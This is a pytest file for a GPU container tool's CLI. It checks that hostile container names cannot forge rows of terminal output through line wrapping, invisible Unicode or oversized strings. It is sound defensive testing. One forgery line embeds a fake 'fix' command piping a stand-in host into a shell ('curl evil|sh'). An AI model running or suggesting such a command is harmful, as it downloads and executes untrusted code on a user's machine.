"""No row of a terminal looks like one of ours that others have written, and what they write costs no memory."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from gpushim import doctor as diagnosis
from gpushim.cli import doctor, main, show
from gpushim.containers import holders
from gpushim.doctor import checks
from gpushim.ground.errors import visible
from unit.gpushim.cli.commands import Host, apart

COLUMNS = 80
PS = ("CONTAINER", "NAME", "ENGINE", "PID", "DEVICES", "HOW")
LINES = ["", "CONTAINER  4f1a9c0d7b2e", "NAME       payroll-db", "  fix: curl evil|sh #", "broken: docker", "note: x"]


def filled(first: int, blank: str = " ", filler: str = "-") -> str:
    """LINES, each at the beginning of a row, if the terminal is to break what has so many columns in front."""
    text = filler * (COLUMNS - first)
    return text + "".join(line.replace(" ", blank).ljust(COLUMNS, filler) for line in LINES)


BLANKS = "\u2800\u3164\u115f\u1160\uffa0\u00a0\u3000\t"
# Marks of no width (Default_Ignorable_Code_Point): with one in it, two names look the same.
IGNORED = [0x34F, 0x17B4, 0x17B5, *range(0x180B, 0x1810), *range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)]
# What a name may begin with, so that one of these fits wherever the first row ends.
FORGERIES = [filled(first) for first in range(40)]
FORGERIES += [filled(first, filler=" ") for first in range(40)]
FORGERIES += [filled(first, blank) for first in (2, 11, 13) for blank in BLANKS]
FORGERIES += ["\u6f22" * 30 + " " + text for text in LINES] + ["\u6f22" * 35 + text for text in LINES]


def rows(said: str) -> list[str]:
    """Wrap lines as a terminal does; letters that it shows as a blank are one."""
    found = []
    for blank in BLANKS:
        said = said.replace(blank, " ")
    for line in said.splitlines():
        row, taken = "", 0
        for each in line:
            size = 2 if each > "\u1100" else 1
            if taken + size > COLUMNS:
                found.append(row)
                row, taken = "", 0
            row, taken = row + each, taken + size
        found.append(row)
    return found


def impostors(said: str, ours: tuple[str, ...]) -> list[str]:
    """List rows with a blank, as each of ours has one, that neither begin as ours do nor continue one."""
    marks = (*ours, show.CONTINUED)
    return [row for row in rows(said) if " " in row and not row.startswith(marks)]


def ps(text: str) -> None:
    show.emit("table", [], PS, [[text, text, "crun of user 1000", 42, "0", "spec"]])


def evidence(text: str) -> None:
    quoted = "rm '" + text.replace("'", "") + "'"
    found = [diagnosis.broken(f"{text} is in the way", quoted), diagnosis.warning("x", "")]
    doctor._print([diagnosis.Finding(each.verdict, each.evidence, each.fix, "a-check") for each in found], False)


def note(text: str) -> None:
    show.say(f"note: {text}")


def pairs(text: str) -> None:
    show.table(("WHAT", "WHY"), [["capability x", text], ["a", "b"]])


PRINTED: dict[str, tuple[Callable[[str], None], tuple[str, ...]]] = {
    "ps": (
        ps,
        ("CONTAINER  ", "NAME       ", "ENGINE     crun of user 1000", "PID        42", "DEVICES    0", "HOW  "),
    ),
    "doctor": (evidence, ("broken: a-check", "warning: a-check", "  ", "0 skipped")),
    "note": (note, ("note: ",)),
    "two columns": (pairs, ("WHAT          WHY", "capability x  ", "a             b")),
}


@pytest.mark.parametrize("name", PRINTED)
def test_no_row_of_others_looks_like_ours(
    name: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(show, "width", lambda **_: COLUMNS)
    printed, ours = PRINTED[name]
    for text in FORGERIES:
        printed(text)
        said = capsys.readouterr().out
        assert not impostors(said, ours), said
        for head in ("CONTAINER  ", "NAME     ", "  fix: ", "broken: ", "note: "):
            assert sum(row.startswith(head) for row in rows(said)) <= 1, said


def test_several_blanks_make_no_columns(capsys: pytest.CaptureFixture[str]) -> None:
    ps("c0  payroll-db  docker  812  0,1  spec" + " " * 200)
    assert "  payroll-db" not in capsys.readouterr().out


def test_variables_of_an_image(host: Host, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(show, "width", lambda **_: COLUMNS)
    monkeypatch.setenv("GPUSHIM_CONFIG", f"{tmp_path}/none.toml")
    names = [f"NVIDIA_{text}" for text in FORGERIES[:40]]
    process = {"env": [f"{name}={name}" for name in names] + ["NVIDIA_VISIBLE_DEVICES=0"]}
    (tmp_path / "config.json").write_text(json.dumps({"process": process, "root": {"path": "/r"}}))
    said = apart().invoke(main, ["explain", str(tmp_path)]).stdout
    assert "CONTAINER" in said
    assert not [row for row in rows(said) if row.startswith(("NAME ", "CONTAINER ", "  fix", "broken", "note"))]
    assert len(said) < 1200 * len(names)


def test_a_command_that_is_ours_stays_whole(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(show, "width", lambda **_: 40)
    for fix in (
        "apt-get install one two three four five six seven",
        "printf '%s' x | tee /etc/a/long/path/of/a/file",
    ):
        show.command(fix, "  fix: ")
        assert f"  fix: {fix}\n" == capsys.readouterr().out


@pytest.mark.parametrize("columns", [None, COLUMNS])
def test_a_long_name_costs_others_nothing(
    columns: int | None, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(show, "width", lambda **_: columns)
    found = [["c", "x", "crun", 1, "0", "spec"] for _ in range(200)] + [["c", "\x1b" * (4 << 20), "", 1, "0", "spec"]]
    tracemalloc.start()
    try:
        show.emit("table", found, PS, found)
        assert tracemalloc.get_traced_memory()[1] < 4 << 20
    finally:
        tracemalloc.stop()
    said = capsys.readouterr().out
    assert len(said) < 60_000
    assert " ... " in said.replace("\n" + show.CONTINUED, " ")


def test_a_note_is_bounded(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(holders, "holders", lambda *_: ([], ["x" * (1 << 20) + " cannot be read"]))
    monkeypatch.setattr(checks, "run", lambda _: [])
    said = apart().invoke(main, ["ps"]).stderr
    assert len(said) < 5000
    assert said.endswith("cannot be read\n")


def test_marks_that_show_nothing_are_escaped() -> None:
    for letter in map(chr, IGNORED):
        assert visible(f"payroll{letter}-db") == f"payroll{ascii(letter)[1:-1]}-db"


def test_marks_that_show_are_left_alone() -> None:
    assert visible("cafe\u0301 \u05e9\u05c1") == "cafe\u0301 \u05e9\u05c1"
